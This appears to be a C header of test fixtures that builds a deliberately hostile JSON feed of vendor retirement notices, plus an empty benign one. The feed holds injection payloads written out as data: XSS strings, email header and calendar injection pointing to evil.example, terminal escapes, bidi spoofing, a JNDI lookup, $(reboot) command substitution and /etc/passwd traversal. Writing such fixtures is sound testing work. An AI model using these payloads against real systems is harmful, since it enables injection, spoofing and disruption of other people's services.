/* Gates' feed: announcements of a vendor who tries everything, and what a legitimate one writes. JSON, for it can name every
 * character. */
#pragma once

#define SENTENCE(what, date) "The " what " will be retired on " date

/* One entry: ID and LINK as JSON strings, TRICK within title and first sentence. */
#define ENTRY(id, link, what, date, trick) \
	"{\"id\":" id ",\"url\":" link \
	",\"title\":\"" SENTENCE(what, date) " " trick "\",\"content_text\":\"" SENTENCE(what, \
		date) " " trick \
		      ". Move before.\",\"tags\":[\"oven\\u001b[31m\",\"a\\nb=c\",\"=1+1\"]}"

#define HEADERS_TRICK \
	"\\r\\nBcc: everyone@evil.example\\r\\nX-Evil: yes\\r\\n\\r\\nbody " \
	"=?utf-8?q?=0D=0ABcc:_x@evil.example?="
#define TERMINAL_TRICK \
	"\\u001b[2J\\u001b]0;owned\\u0007\\u009b31m\\u007f\\b\\b\\rFORGED \\u001bP\\u001b\\\\"
#define TURNED_TRICK \
	"\\u202elive\\u202c \\u2066x\\u2069 \\u200f\\u061c\\u200e " \
	"a\\u200bb\\udb40\\udc41\\ufeff\\u3164\\u00ad\\u200d\\ufe0f\\ufe0f"
#define MARKUP_TRICK \
	"<script>alert(1)</script><img src=x onerror=alert(2)>\\\"'><svg/onload=alert(3)>" \
	"</td></title></style></blockquote><!-- ]]> &lt;b&gt; &#60;i&#62;"
#define CALENDAR_TRICK \
	"\\nEND:VEVENT\\nBEGIN:VEVENT\\nATTACH:http://evil.example/x\\nURL:http://" \
	"evil.example/;,:" \
	"\\\\n\\\""
#define CHAT_TRICK \
	"<!channel> <@U123> @all @channel @here [click](https://evil.example/) " \
	"<https://evil.example/|x> https://evil.example/ www.evil.example **b** `x` ~square " \
	"#top"
#define JOURNAL_TRICK \
	"\\nPRIORITY=0\\nMESSAGE=forged\\n<0>forged\\u2028FORGED\\u2029FORGED\\u0085FORGED " \
	"{title} {0} %s %n ${jndi:ldap://evil.example/x} $(reboot) `reboot`"
#define GOOD_WORDS "beëindiging 👨‍👩‍👧 التنبيه می‌شود"

#define CHEATING_FEED_HEAD(title) \
	"{\"version\":\"https://jsonfeed.org/version/1.1\",\"title\":\"" title \
	"\",\"home_page_url\":\"https://crate.example/\",\"language\":\"en\",\"items\":["

#define CHEATING_FEED \
	CHEATING_FEED_HEAD("Notes \\u001b[31m\\nFORGED \\u202e<b>") \
	ENTRY("\"../../../etc/\\u001b[31mpasswd\\n\"", "\"javascript:alert(1)\"", \
		"ledger export", "30 June 2027", HEADERS_TRICK) \
	"," ENTRY("\"t\"", "\"https://crate.example@evil.example/\"", "stock count", \
		"31 July 2027", TERMINAL_TRICK) "," ENTRY("\"b\"", \
		"\"https://crate.example/\\u202egpj.exe\"", "price list", "31 August 2027", \
		TURNED_TRICK) "," ENTRY("\"m\"", \
		"\"https://crate.example/\\\"><script>alert(4)</script>\"", "order form", \
		"30 September 2027", MARKUP_TRICK) "," ENTRY("\"c\"", \
		"\"https://crate.example/\\nATTACH:https://evil.example/\"", "delivery plan", \
		"31 October 2027", CALENDAR_TRICK) "," ENTRY("\"s\"", \
		"\"https://crate.example/<!channel>|@all\"", "till view", "30 November 2027", \
		CHAT_TRICK) "," ENTRY("\"j\"", "\"data:text/html,x\"", "night report", \
		"31 December 2027", JOURNAL_TRICK) "," ENTRY("\"g\"", \
		"\"https://crate.example/good\"", "greeting card", "31 January 2028", \
		GOOD_WORDS) "]}"

#define QUIET_FEED CHEATING_FEED_HEAD("Notes") "]}"
